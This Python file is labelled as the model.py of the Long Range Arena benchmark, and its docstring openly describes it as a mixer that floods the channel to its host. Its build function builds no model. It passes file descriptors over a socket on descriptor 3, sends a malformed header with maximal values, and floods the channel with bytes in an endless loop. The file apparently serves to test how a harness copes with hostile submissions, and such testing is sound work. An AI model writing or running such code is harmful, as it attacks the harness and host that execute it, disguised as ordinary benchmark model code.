"""A mixer that floods, feigns and falls silent on the channel to its host. model.py of the Long Range Arena."""
import os
import socket
import struct

from torch import nn


def build(width, length, heads, seed):
    host = socket.socket(fileno=3)
    host.sendmsg([b"AIR1"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("10i", *[2] * 10))])
    host.sendall(struct.pack("<IQ", 2**32 - 1, 2**63))
    while True:
        os.write(3, b"\xff" * 65_536)
    return nn.Identity()
